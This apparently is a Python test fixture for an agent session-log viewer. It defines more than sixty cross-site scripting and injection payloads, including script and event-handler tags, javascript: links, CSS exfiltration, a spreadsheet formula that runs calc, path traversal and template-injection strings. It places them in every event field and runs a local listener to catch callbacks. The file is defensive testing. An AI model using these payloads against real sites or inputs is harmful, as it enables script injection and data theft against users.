"""Hostile text of the kinds that OWASP's cheat sheets on cross-site scripting name, in every place of a session.

Each attack tries to reach a listener, to run `pwned()`, or to change how a page looks.
"""

from __future__ import annotations

import socket
import unicodedata
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from threading import Thread
from typing import Any, Final

from strands_session_log import SessionLog, events

_L: Final = "http://LISTENER"
_GO: Final = f"pwned();fetch('{_L}/js')"
ATTACKS: Final[Mapping[str, str]] = {
    # Script
    "script": f"<script>{_GO}</script>",
    "script elsewhere": f"<script src={_L}/x.js></script>",
    "script as a module": f"<script type=module>import '{_L}/m.js'</script>",
    "script in odd case": f"<ScRiPt>{_GO}</sCrIpT>",
    "script in script": f"<scr<script>ipt>{_GO}</scr</script>ipt>",
    "script with a slash": f"<script/x src={_L}/s></script>",
    "script half open": f"<script src={_L}/half ",
    "script with a NUL": f"<scr\x00ipt>{_GO}</scr\x00ipt>",
    "script with guessed nonce": f'<script nonce="">{_GO}</script>',
    "end of the script it stands in": f"</script><script>{_GO}</script>",
    "end of a comment": f"--><script>{_GO}</script><!--",
    "JSON that ends": f'"}}];{_GO}//</script>',
    "template of the server": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template of the page": f"${{{_GO}}}",
    # HTML
    "image with onerror": f'<img src=x onerror="{_GO}">',
    "image elsewhere": f"<img src={_L}/pixel.png>",
    "image without quotes or spaces": f"<img/src='{_L}/p'/onerror={_GO}>",
    "image with srcset": f"<img srcset='{_L}/a 1x, {_L}/b 2x'>",
    "picture": f"<picture><source srcset={_L}/pic><img></picture>",
    "frame": f"<iframe src={_L}/frame></iframe>",
    "frame with srcdoc": f'<iframe srcdoc="<script>parent.{_GO}</script>"></iframe>',
    "object": f"<object data={_L}/object></object>",
    "embed": f"<embed src={_L}/embed>",
    "base": f"<base href={_L}/>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={_L}/meta'>",
    "meta policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "link prefetch": f"<link rel=prefetch href={_L}/prefetch><link rel=dns-prefetch href=//LISTENER>",
    "form": f"<form action={_L}/form><button autofocus onfocus={_GO}>Log in again</button></form>",
    "button with formaction": f"<button formaction=javascript:{_GO}>x</button>",
    "input with focus": f"<input autofocus onfocus={_GO}>",
    "details that open": f"<details open ontoggle={_GO}>x</details>",
    "video": f"<video src={_L}/v autoplay onerror={_GO}><track src={_L}/t></video>",
    "audio": f"<audio autoplay src={_L}/a></audio>",
    "marquee": f"<marquee onstart={_GO}>x</marquee>",
    "body": f"<body onload={_GO} background={_L}/bg>",
    "template": f"<template shadowrootmode=open><script>{_GO}</script></template>",
    "clobbered names": "<a id=session><a id=session name=head><img name=viewer><form id=slider><input name=value>",
    "htmx": f"<a hx-get='{_L}/hx' hx-trigger=load data-hx-get='{_L}/hx2' hx-on:load='{_GO}'>x</a>",
    "our own actions": "<button data-do=first data-dialog data-live=x id=talk>x</button>",
    "end of an attribute": f'" autofocus onfocus="{_GO}" x="',
    "end of an attribute in single quotes": f"' onmouseover='{_GO}' style='position:fixed;inset:0' x='",
    "end of a title": f"</title><script>{_GO}</script>",
    "end of a textarea": f"</textarea></style></noscript><script>{_GO}</script>",
    "mutation": "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "mutation by a comment": '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "backticks": f"<img src=`{_L}/tick` onerror=`{_GO}`>",
    "entities": f"&lt;script&gt;{_GO}&lt;/script&gt;&#x3C;script&#x3E;&amp;lt;",
    "another encoding": "+ADw-script+AD4-pwned()+ADw-/script+AD4- \u00bcscript\u00be \uff1cscript\uff1e",
    # SVG and MathML
    "SVG": f"<svg onload={_GO}><script>{_GO}</script></svg>",
    "SVG that uses": f"<svg><use href='{_L}/s.svg#x'/><image href='{_L}/i'/></svg>",
    "SVG that animates": f"<svg><a><animate attributeName=href values=javascript:{_GO}></a></svg>",
    "MathML": f"<math href=javascript:{_GO}>x</math>",
    # Links
    "javascript link": f"[click](javascript:{_GO}) <javascript:{_GO}>",
    "javascript link in pieces": "[a](java&#x0A;script:pwned()) [b](JaVaScRiPt:pwned()) [c](\x01javascript:pwned())",
    "data link": "[a](data:text/html,<script>pwned()</script>) <data:text/html;base64,PHNjcmlwdD4=>",
    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](view-source:x) [e](intent://x)",
    "links into the viewer": "[a](/s/x/erase) [b](//LISTENER/) [c](?token=x) [d](#main) [e](\\\\LISTENER)",
    "a link that is another": f'[https://bank.example]({_L}/ "title" ) [https://a](https://b@evil.example)',
    "a reference": f"[x][r]\n\n[r]: javascript:{_GO}",
    "remote images": f"![p]({_L}/md.png) ![q][i]\n\n[i]: {_L}/ref.png",
    "an image in a link": f"[![x]({_L}/in.png)](javascript:{_GO})",
    "an address by itself": f"{_L}/bare www.evil.example <{_L}/auto> mailto:a@b?bcc=c",
    # Style
    "style": f"<style>@import '{_L}/css';*{{display:none!important}}</style>",
    "style attribute": f'<div style="position:fixed;inset:0;z-index:99;background:url({_L}/bg)">x</div>',
    "style link": f"<link rel=stylesheet href={_L}/style.css>",
    "style that reads": f"<style>input[value^=a]{{background:url({_L}/a)}}</style>",
    "class names": "<div class='banner tampered below newer' id=away role=alert>Server away</div>",
    # Text
    "turned around": "\u202eevil\u202c \u2066a\u2069 \u200fb user=\u202e\u2066admin\u2069\u2066",
    "unseen": "a\u200b\u2060\ufeff\u00ad\u3164b\U000e0073\U000e0079\ufe01\ufe02",
    "controls": "\x1b[31mred\x1b]8;;http://LISTENER\x07link\x1b]8;;\x07 \x08\x07\x7f\x85\r\n",
    "climbing marks": "a" + "\u0301\u0489\u0e49\u064b" * 300,
    "a wall": "W" * 20_000,
    "many lines": "x\n" * 5_000,
    "deep": "> " * 500 + "- " * 500 + "[" * 500 + "*" * 500,
    "a table without end": "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n|x" * 300,
    "a fence with a language": f'```html" onmouseover={_GO}\n<script>{_GO}</script>\n```',
    "a line of a log": "a\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n<script>pwned()</script>",
    "a formula": '=HYPERLINK("http://LISTENER/","x") @SUM(1+1)*cmd|\' /C calc\'!A0',
    "a path": "../../../../etc/passwd\x00.png",
    "a record of ours": '{"__bytes_encoded__": true, "data": "!"} {"__class__": "os.system"}',
}
"""By what each is: more than sixty."""
IN_A_SESSION: Final = 6


@contextmanager
def listening() -> Iterator[tuple[str, list[bytes]]]:
    """Somebody who waits for whatever reaches them: where, and what came."""
    came = list[bytes]()
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def take() -> None:
            with suppress(OSError):
                while True:
                    with listener.accept()[0] as client:
                        client.settimeout(1)
                        came.append(client.recv(1024) or b"a connection")

        thread = Thread(target=take, daemon=True)
        thread.start()
        yield f"127.0.0.1:{listener.getsockname()[1]}", came
        # Whoever waits in the other thread is woken.
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(5)


def write_attacks(log: SessionLog, listener: str) -> list[str]:
    """Sessions that have each attack in every place; their ids, which are attacks, too."""
    texts = [text.replace("LISTENER", listener) for text in ATTACKS.values()]
    for number, text in enumerate(texts):
        log.append(id_of(text, number), [_waiting(text), _said("user", text), _asked(text)])
    found = list[str]()
    for at in range(0, len(texts), IN_A_SESSION):
        some = texts[at : at + IN_A_SESSION]
        found.append(id_of(f"all {some[0]}"))
        log.append(found[-1], [one for number, text in enumerate(some) for one in _everywhere(text, number)])
    return found


def id_of(text: str, number: int = 0) -> str:
    """An attack as an id: without what no id may have, and not too long for one."""
    kept = "".join(one for one in text if unicodedata.category(one) not in ("Cc", "Cf", "Cs", "Zl", "Zp"))
    return f"{kept[:200]} {number}"


def _said(role: str, text: str, *blocks: Any, index: int = 0, agent: str = "") -> events.Event:
    message = {"role": role, "content": [{"text": text}, *blocks]}
    return events.MessageAdded({"message_id": index, "message": message}, agent or id_of(text))


def _asked(text: str) -> events.Event:
    return events.InterruptRaised({"id": text, "name": text, "reason": {text: [text]}}, id_of(text))


def _waiting(text: str) -> events.Event:
    asked = {"interrupts": {text: {"id": text, "name": text, "reason": {text: [text]}}}, "activated": True}
    state = {"interrupt_state": asked}
    return events.AgentCreated({"agent_id": id_of(text), "state": {}, "_internal_state": state}, id_of(text))


def _everywhere(text: str, number: int) -> Iterator[events.Event]:
    agent, use = id_of(text), f"{number} {text}"
    source = {"bytes": {"__bytes_encoded__": True, "data": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}}
    call = {"toolUse": {"toolUseId": use, "name": text, "input": {text: text, "list": [text]}}}
    image, place = {"format": text, "source": source}, {"type": "s3", "uri": text}
    document = {"format": "html", "name": text, "source": source}
    video = {"format": text, "name": text, "source": {"location": place}}
    results: list[Any] = [{"text": text}, {"json": {text: text}}, {"document": document}, {text: {text: text}}]
    cited = {
        "content": [{"text": text}],
        "citations": [
            {"title": text, "location": {"web": {"url": text, "domain": text}}, "sourceContent": [{"text": text}]}
        ],
    }
    thought = {"reasoningText": {"text": text, "signature": text}}
    more: list[Any] = [
        {"reasoningContent": thought},
        {"citationsContent": cited},
        {"guardContent": {"text": {"text": text, "qualifiers": [text]}}},
        {"cachePoint": {"type": "default", "ttl": text}},
        {"image": image},
        {"document": document},
        {"video": video},
        {text: text},
        call,
    ]
    yield events.AgentCreated({"agent_id": agent, "state": {text: text}, "system_prompt": text}, agent)
    yield events.SessionAnnotated({text[:60]: text[:200]})
    yield events.InvocationStarted({}, agent)
    yield _said("user", text, {"image": image}, agent=agent)
    yield _said("assistant", text, *more, index=1, agent=agent)
    yield events.ToolStarted({"tool_use_id": use, "name": text}, agent)
    yield events.ToolFailed({"tool_use_id": use, "name": text, "error": text, "error_text": text}, agent)
    result = {"toolResult": {"toolUseId": use, "status": "error", "content": results}}
    yield events.MessageAdded({"message_id": 2, "message": {"role": text, "content": [result]}}, agent)
    yield events.MessageUpdated(
        {"message_id": 2, "message": {"role": "user", "content": [result, {"text": text}]}}, agent
    )
    yield events.MessageRedacted(
        {"message_id": 0, "redact_message": {"role": "user", "content": [{"text": text}]}}, agent
    )
    yield _asked(text)
    yield events.InterruptAnswered({"id": text, "name": text, "response": {text: text}}, agent)
    yield events.ModelCompleted({"model_id": text, "stop_reason": text}, agent)
    yield events.ModelFailed({"error": text, "error_text": text}, agent)
    yield events.NodeCompleted({"node": text, "status": text, "error": text}, agent)
    yield events.InvocationFailed({"error": text, "error_text": text}, agent)
    yield events.Custom("custom.attack", {text: text}, agent)
